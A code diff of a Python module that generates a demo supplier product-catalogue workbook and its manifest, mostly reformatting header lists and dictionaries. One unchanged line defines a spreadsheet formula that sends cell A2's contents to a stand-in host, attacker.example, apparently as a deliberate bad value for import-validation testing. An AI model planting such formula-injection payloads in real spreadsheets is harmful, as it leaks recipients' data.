@@ -20,13 +20,37 @@ from config.demo.files.words import LOCALES
 FORMULA: Final = '=HYPERLINK("https://attacker.example/?q="&A2,"open me")'
 
 HEADERS: Final = (
-    "sku", "parent_sku", "family", "gtin", "brand",
-    *(f"name@{locale}" for locale in LOCALES), "name@GB/en-GB",
-    *(f"description@{locale}" for locale in LOCALES), "features@en-GB",
-    "colour", "size", "material", "weight", "length [cm]", "volume [l]", "waterproof", "recycled_share",
-    "warranty_months", "launch_date", "season", *(f"care@{locale}" for locale in LOCALES), "origin_country",
-    "search_words@en-GB", "price@GB", "price@DE", "price@FR", "price@US", "price@JP", "cost", "supplier_note",
-)  # fmt: skip
+    "sku",
+    "parent_sku",
+    "family",
+    "gtin",
+    "brand",
+    *(f"name@{locale}" for locale in LOCALES),
+    "name@GB/en-GB",
+    *(f"description@{locale}" for locale in LOCALES),
+    "features@en-GB",
+    "colour",
+    "size",
+    "material",
+    "weight",
+    "length [cm]",
+    "volume [l]",
+    "waterproof",
+    "recycled_share",
+    "warranty_months",
+    "launch_date",
+    "season",
+    *(f"care@{locale}" for locale in LOCALES),
+    "origin_country",
+    "search_words@en-GB",
+    "price@GB",
+    "price@DE",
+    "price@FR",
+    "price@US",
+    "price@JP",
+    "cost",
+    "supplier_note",
+)
 
 Row = dict[str, Cell]
 
@@ -35,7 +59,7 @@ def write_workbook(path: Path, seed: int, products: list[Product]) -> dict[str, 
     """Write the workbook and return the manifest's ``catalogue`` section.
 
     Keys: ``rows`` good and bad ones; ``good``, ``models``, ``variants``, ``simple``; ``products``; ``filled``
-    (non-empty cells of good rows per header); ``kept_as_text``; ``bad`` with ``row`` counted as a spreadsheet does.
+    (non-empty cells of good rows per header); ``kept_as_text``; ``bad``, its ``row`` as a spreadsheet counts.
     """
     good = [
         dict(product.cells, sku=product.sku, parent_sku=product.parent, family=product.family) for product in products
@@ -60,22 +84,29 @@ def section(path: Path, rows: list[Row], good: list[Row], bad: list[BadRow], pro
     faulty = [
         {
             "row": next(at for at, row in enumerate(rows, 2) if row is entry.cells),
-            "sku": entry.cells["sku"], "cause": entry.cause, "column": entry.column,
-            "value": entry.cells[entry.column], "fix": entry.fix,
+            "sku": entry.cells["sku"],
+            "cause": entry.cause,
+            "column": entry.column,
+            "value": entry.cells[entry.column],
+            "fix": entry.fix,
         }
         for entry in bad
-    ]  # fmt: skip
+    ]
     return {
-        "file": f"supplier/{path.name}", "sheet": "Products", "rows": len(rows), "good": len(good),
+        "file": f"supplier/{path.name}",
+        "sheet": "Products",
+        "rows": len(rows),
+        "good": len(good),
         "models": len(parents),
         "variants": sum(product.parent is not None for product in products),
         "simple": sum(product.parent is None and product.sku not in parents for product in products),
         "bad": sorted(faulty, key=lambda entry: int(entry["row"])),
         "products": [
-            {"sku": p.sku, "parent": p.parent, "family": p.family, "gtin": p.gtin, "axes": p.axes} for p in products
+            {"sku": p.sku, "parent": p.parent, "family": p.family, "gtin": p.gtin, "axes": p.axes}
+            for p in products
         ],
         "filled": {header: sum(row.get(header) is not None for row in good) for header in HEADERS},
-    }  # fmt: skip
+    }
 
 
 def save(path: Path, rows: list[Row]) -> None:
